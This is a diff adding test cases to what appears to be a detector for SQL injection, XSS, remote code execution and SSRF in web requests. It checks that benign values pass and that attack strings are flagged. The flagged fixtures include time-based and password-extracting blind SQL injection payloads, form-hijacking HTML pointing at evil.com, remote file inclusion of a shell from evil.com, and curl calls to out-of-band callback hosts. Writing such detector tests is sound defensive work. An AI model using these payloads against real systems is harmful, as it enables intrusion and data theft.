@@ -1223,3 +1223,59 @@ t.test("twentieth round: redirects to a file, a share or an FTP server, a contro
   }
   for (const p of ['redis://cache', 'http://redis', 'file://fileserver/share/x']) t.ok(q(p, 'url').includes('ssrf'), p)
 })
+
+// ---- review of the nineteenth round: benign values its rules flagged, by kind (the attack shapes it targeted stay) ----
+
+t.test('review of the nineteenth round: arithmetic, SQL written as SQL, a backtick named in prose', async (t) => {
+  // two different unsigned numbers compared in a value: a calculator's, a quiz's, an expression field's
+  for (const p of ['1 < 2', '10 > 5', '5 >= 3', '1.2 < 1.3', '2 != 3']) {
+    t.notOk(q(p).includes('sqli'), p)
+    t.notOk(json({ expr: p }).includes('sqli'), `${p} (JSON)`)
+  }
+  t.notOk(q('price > 10', 'filter').includes('sqli'), 'a column against a number')
+  // the probes: a number against itself, a signed one, SQL's operators, a comment, truth values and NULL; arithmetic in a path
+  for (const p of ['1=1', '2=2', '1 = 0', '1 <= 1', '1 > 1', '0 > -1', '-1 < 0', '5 <> 6', 'NULL <=> 1', "1 LIKE '1%'", '1 NOT IN (1,2,3)', '1=1--', '1 < 2--', 'FALSE = FALSE']) t.ok(q(p).includes('sqli'), p)
+  t.ok(detector.detect({ ...base, path: '/api/items/1 <= 2' }).includes('sqli'), 'constants compared in a path')
+  t.ok(detector.detect({ ...base, path: '/api/items/1>0' }).includes('sqli'), 'constants compared in a path, glued')
+  // a sub-query as a function's argument in SQL written as SQL (a report's query, a question about it)
+  for (const p of ['SELECT COALESCE((SELECT max(id) FROM t), 0)', 'Why does SELECT CAST((SELECT 1) AS INT) work?']) t.notOk(json({ sql: p }).includes('sqli'), p)
+  for (const p of ['CAST((SELECT 1) AS INT)', 'CONVERT((SELECT 1),INT)', "ascii(substring((select password from users limit 1,1),1,1)) = 70 or '1'='2", 'ord(mid((select user()),1,1))>100', "' and ascii(substring((select password from users limit 1),1,1))>64--"]) t.ok(q(p).includes('sqli'), p)
+  // a backtick named as a character beside code spans that pair without it
+  for (const p of [
+    'Query with `SELECT name FROM users WHERE id = 5 -- the id` and note the ` in names',
+    "I think `a' or 'b` is fine, but the ` here is odd",
+  ]) t.notOk(json({ text: p }).includes('sqli'), p)
+  for (const p of ['1`=`1` AND ELT(1337=1337,SLEEP(5)) AND `1`=`1', '`=`1` AND (SELECT 1337 FROM (SELECT(SLEEP(5)))YYYY) AND `1`=`1']) t.ok(q(p).includes('sqli'), p)
+})
+
+t.test('review of the nineteenth round: embedded forms, a page\'s own policy, typed objects, a page\'s script loading, developers\' loopback hosts', async (t) => {
+  for (const p of [
+    '<p>Subscribe:</p>\n<form action="https://example.us1.list-manage.com/subscribe/post?u=abc&amp;id=def" method="post"><input type="email" name="EMAIL"><button type="submit">Subscribe</button></form>',
+    '<form action="https://www.paypal.com/cgi-bin/webscr" method="post"><input type="hidden" name="cmd" value="_s-xclick"></form>',
+    '<!DOCTYPE html>\n<html>\n<head>\n<meta charset="utf-8">\n<meta http-equiv="Content-Security-Policy" content="default-src \'self\'">\n<title>Home</title>\n</head>\n<body><p>Hi</p></body>\n</html>',
+    '<object data="https://example.com/files/report.pdf" type="application/pdf" width="100%" height="600"></object>',
+    '$.getScript("https://cdn.example.com/plugin.js", function() { init(); });',
+    "$.getScript('/js/lazy.js').done(function(){ start() })",
+    '<p>Preview:</p><img src="http://app.lvh.me:3000/uploads/logo.png">',
+    '<a href="http://10.0.0.5.nip.io:8080/">staging</a>',
+  ]) t.notOk(json({ body: p }).includes('xss'), p)
+  for (const p of [
+    '<form action="http://evil.com"><input type="submit"></form>', '<form action=http://google.com><input type="submit">Click Me</input>',
+    '<noscript><form action=http://evil.com><input type=submit style="position:absolute"><textarea name=contents></noscript>',
+    '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">', '<meta http-equiv="refresh" content="0; url=https://example.com/new-page">',
+    '<object data="https://victim.com"></object>', '<object//data=//t.cn>', '$.getScript("//ghsec.ez.pe")',
+    '<img src="https://c7f3k2.oast.example.net/querytoremember"/>', '<img src="//x.oastify.com/a.png">',
+  ]) t.ok(q(p).includes('xss'), p)
+})
+
+t.test('review of the nineteenth round: a program keeping what it fetches, compile() of a variable, curl to a developer\'s loopback host', async (t) => {
+  for (const p of [
+    '$fp = fopen("https://api.example.com/data.csv", "r");', '$html = file_get_contents("https://example.com/");', 'const data = require("https://esm.sh/lodash")',
+    'code = eval(compile(source, "<string>", "exec"))', 'curl http://app.lvh.me:3000/health', 'wget http://192.168.1.20.nip.io/file.tar.gz',
+  ]) t.notOk(json({ snippet: p }).includes('rce'), p)
+  for (const p of [
+    'include("http://evil.com/shell.txt")', 'require("http://evil.com/shell.txt")', 'fopen("http://evil.com/shell.txt","r")', '<?php include("http://evil.com/shell.txt"); ?>',
+    "eval(compile('import time\\ntime.sleep(20)','a','single'))", 'curl -sk http://84ab8biczjsb682bxde348roefk58u.oastify.com',
+  ]) t.ok(q(p).includes('rce'), p)
+  t.ok(q('http://127.0.0.1.nip.io:8080/', 'webhook_url').includes('ssrf'), 'a loopback name stays an SSRF target')
+})
